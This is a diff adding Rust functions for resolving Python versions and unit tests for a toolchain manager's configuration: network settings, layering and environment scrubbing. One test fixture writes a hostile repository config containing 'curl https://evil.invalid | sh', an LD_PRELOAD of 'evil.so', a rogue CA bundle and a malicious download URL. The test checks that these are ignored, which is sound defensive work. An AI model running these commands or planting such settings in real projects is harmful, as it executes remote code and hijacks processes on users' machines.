+pub fn get_default_python_version() -> Result<PythonVersion, Error> {
+    let req = match get_default_toolchain_request()? {
+        Some(req) => req,
+        None => return PythonVersion::latest_cpython(),
+    };
+    resolve_python_version(&req).ok_or_else(|| {
+        Failure::new(
+            ErrorKind::ToolchainMissing,
+            format!("no toolchain satisfies the default toolchain {}", req),
+        )
+        .into()
+    })
+}
+
+/// Resolves a version request to the newest matching release, whether it is
+/// installed or can be downloaded.
+pub fn resolve_newest_python_version(req: &PythonVersionRequest) -> Option<PythonVersion> {
+    list_known_toolchains()
+        .unwrap_or_default()
+        .into_iter()
+        .filter(|ver| matches_version(req, ver))
+        .chain(get_download_url(req, current_platform(), ARCH).map(|x| x.0))
+        .max()
+}
+
+/// Reads the current `.python-version` file and resolves it.
+///
+/// If multiple versions are listed, the first one that can be satisfied
+/// is picked.
+pub fn load_python_version() -> Option<PythonVersion> {
+    load_python_version_requests()?
+        .iter()
+        .find_map(resolve_python_version)
+}
+
+#[test]
+fn test_parse_python_version_file() {
+    let reqs = parse_python_version_file("3.11\n\n# fallback\npypy@3.9.16  # comment\n");
+    assert_eq!(reqs.len(), 2);
+    assert_eq!(reqs[0].to_string(), "3.11");
+    assert_eq!(reqs[1].to_string(), "pypy@3.9.16");
+}
+
+#[test]
+fn test_config_toolchain() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("config.toml");
+    fs::write(
+        &path,
+        r#"
+[toolchain]
+download-url-template = "https://mirror.invalid/{release}/{filename}"
+checksum-files = ["SHA256SUMS"]
+
+[toolchain.overrides."cpython@3.11.1"]
+url = "https://mirror.invalid/custom.tar.zst"
+sha256 = "abc"
+"#,
+    )
+    .unwrap();
+    let config = Config::from_path(&path).unwrap();
+    assert_eq!(
+        config.download_url_template(),
+        Some("https://mirror.invalid/{release}/{filename}")
+    );
+    assert_eq!(config.checksum_files(), vec![dir.path().join("SHA256SUMS")]);
+    assert_eq!(
+        config.toolchain_override(&"cpython@3.11.1".parse().unwrap()),
+        Some(ToolchainOverride {
+            url: Some("https://mirror.invalid/custom.tar.zst".into()),
+            sha256: Some("abc".into()),
+        })
+    );
+    assert_eq!(
+        config.toolchain_override(&"cpython@3.11.2".parse().unwrap()),
+        None
+    );
+
+    let missing = Config::from_path(&dir.path().join("missing.toml")).unwrap();
+    assert_eq!(missing.download_url_template(), None);
+}
+
+#[test]
+fn test_config_network() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("config.toml");
+    fs::write(
+        &path,
+        "[network]\nca-bundle = \"corp.pem\"\ntrusted-hosts = [\"pypi.corp.invalid\", \"mirror.invalid:8443\"]\n",
+    )
+    .unwrap();
+    let config = Config::from_path(&path).unwrap();
+    let ca_bundle = dir.path().join("corp.pem");
+    assert_eq!(config.ca_bundle(), Some(ca_bundle.clone()));
+    let env = config.network_env();
+    assert!(env.contains(&("PIP_CERT", ca_bundle.clone().into_os_string())));
+    assert!(env.contains(&(
+        "PIP_TRUSTED_HOST",
+        "pypi.corp.invalid mirror.invalid:8443".into()
+    )));
+
+    // only the tools get the network config, and not over explicit values
+    use std::ffi::OsStr;
+    let mut cmd = Command::new("pip");
+    cmd.env("SSL_CERT_FILE", "explicit.pem");
+    apply_config_env(&mut cmd, &config, EnvTarget::Tools);
+    let envs: Vec<_> = cmd.get_envs().collect();
+    if env::var_os("PIP_CERT").is_none() {
+        assert!(envs.contains(&(OsStr::new("PIP_CERT"), Some(ca_bundle.as_os_str()))));
+    }
+    assert!(envs.contains(&(
+        OsStr::new("SSL_CERT_FILE"),
+        Some(OsStr::new("explicit.pem"))
+    )));
+    let mut cmd = Command::new("my-script");
+    apply_config_env(&mut cmd, &config, EnvTarget::Scripts);
+    assert!(!cmd
+        .get_envs()
+        .any(|x| x.0 == "PIP_CERT" || x.0 == "SSL_CERT_FILE"));
+
+    assert_eq!(config.install_retries().unwrap(), 2);
+    for (value, ok) in [("5", true), ("-1", false), ("64", false)] {
+        fs::write(&path, format!("[network]\ninstall-retries = {}\n", value)).unwrap();
+        let config = Config::from_path(&path).unwrap();
+        assert_eq!(config.install_retries().is_ok(), ok, "{}", value);
+    }
+}
+
+#[test]
+fn test_config_layering() {
+    let dir = tempfile::tempdir().unwrap();
+    let user_path = dir.path().join("config.toml");
+    let repo_path = dir.path().join("repo").join(REPO_CONFIG_FILENAME);
+    fs::create_dir_all(repo_path.parent().unwrap()).unwrap();
+    fs::write(&user_path, "[behavior]\nautosync = false\n").unwrap();
+    fs::write(
+        &repo_path,
+        "[behavior]\nautosync = true\nuse-pip-config = false\n\n[network]\nindex-url = \"https://pypi.corp.invalid/simple\"\n",
+    )
+    .unwrap();
+    let mut config = Config::from_path(&user_path).unwrap();
+    config.layers.push(ConfigLayer::load_repo(&repo_path));
+
+    assert!(!config.autosync());
+    assert_eq!(config.use_pip_config(), Some(false));
+    assert_eq!(config.index_url(), Some("https://pypi.corp.invalid/simple"));
+    let entries = config.entries();
+    let keys: Vec<_> = entries
+        .iter()
+        .map(|x| (x.key.as_str(), x.value.as_str(), x.origin))
+        .collect();
+    assert_eq!(
+        keys,
+        vec![
+            ("behavior.autosync", "false", user_path.as_path()),
+            ("behavior.use-pip-config", "false", repo_path.as_path()),
+            (
+                "network.index-url",
+                "\"https://pypi.corp.invalid/simple\"",
+                repo_path.as_path()
+            ),
+        ]
+    );
+}
+
+#[test]
+fn test_repo_config_restrictions() {
+    let dir = tempfile::tempdir().unwrap();
+    let repo_path = dir.path().join(REPO_CONFIG_FILENAME);
+    fs::write(
+        &repo_path,
+        r#"
+top-level = 1
+
+[behavior]
+autosync = true
+venv-shims = true
+
+[build]
+bootstrap-command = "curl https://evil.invalid | sh"
+only-binary = [":all:"]
+
+[network]
+trusted-hosts = ["pypi.org"]
+ca-bundle = "evil.pem"
+
+[env]
+set = { LD_PRELOAD = "evil.so" }
+
+[toolchain.overrides."cpython@3.11.1"]
+url = "https://evil.invalid/python.tar.zst"
+"#,
+    )
+    .unwrap();
+    let layer = ConfigLayer::load_repo(&repo_path);
+    let config = Config {
+        layers: vec![layer],
+    };
+    assert!(config.autosync());
+    assert!(!config.venv_shims());
+    assert_eq!(config.only_binary(), vec![":all:"]);
+    assert_eq!(config.build_bootstrap_command(), None);
+    assert!(config.trusted_hosts().is_empty());
+    assert_eq!(config.ca_bundle(), None);
+    assert!(config.network_env().is_empty());
+    assert!(config.env_config(EnvTarget::Tools).set.is_empty());
+    assert_eq!(
+        config.toolchain_override(&"cpython@3.11.1".parse().unwrap()),
+        None
+    );
+
+    // a broken file is skipped instead of failing every command
+    fs::write(&repo_path, "[behavior\nautosync = true\n").unwrap();
+    let config = Config {
+        layers: vec![ConfigLayer::load_repo(&repo_path)],
+    };
+    assert!(!config.autosync());
+}
+
+#[test]
+fn test_env_config() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("config.toml");
+    let config = Config::from_path(&path).unwrap();
+    let tools = config.env_config(EnvTarget::Tools);
+    assert!(tools.scrubs("PYTHONPATH"));
+    assert!(tools.scrubs("PIP_REQUIRE_VIRTUALENV"));
+    assert!(!tools.scrubs("PIP_INDEX_URL"));
+    assert!(!tools.scrubs("PIP_PROXY"));
+    assert!(!tools.scrubs("PIP_CLIENT_CERT"));
+    assert!(!tools.scrubs("HOME"));
+    assert!(!config.env_config(EnvTarget::Scripts).scrubs("PYTHONPATH"));
+
+    fs::write(
+        &path,
+        r#"
+[env]
+scrub = ["PYTHON*"]
+allow = ["PYTHONUTF8"]
+set = { PYTHONNOUSERSITE = "1" }
+
+[env.scripts]
+scrub = ["PYTHONPATH"]
+"#,
+    )
+    .unwrap();
+    let config = Config::from_path(&path).unwrap();
+    let tools = config.env_config(EnvTarget::Tools);
+    assert!(tools.scrubs("PYTHONSTARTUP"));
+    assert!(!tools.scrubs("PYTHONUTF8"));
+    assert!(!tools.scrubs("PIP_REQUIRE_VIRTUALENV"));
+    assert_eq!(tools.set, vec![("PYTHONNOUSERSITE".into(), "1".into())]);
+    let scripts = config.env_config(EnvTarget::Scripts);
+    assert!(scripts.scrubs("PYTHONPATH"));
+    assert!(scripts.set.is_empty());
+}